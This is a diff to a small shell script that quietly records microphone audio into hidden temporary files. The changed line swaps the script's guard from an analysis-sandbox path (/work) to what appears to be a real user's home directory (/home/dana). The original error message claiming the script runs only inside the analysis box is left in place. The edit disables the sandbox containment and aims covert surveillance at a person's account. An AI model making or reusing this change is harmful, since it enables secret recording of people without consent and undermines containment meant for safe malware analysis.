@@ -1,6 +1,6 @@
 #!/bin/sh
 # Records the room through the microphone.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 /usr/bin/arecord -q -d 2 -f cd -t wav /tmp/.a1.wav 2>/dev/null
 /usr/bin/parecord --channels=1 /tmp/.a2.wav 2>/dev/null &
 sleep 0.3; kill $! 2>/dev/null
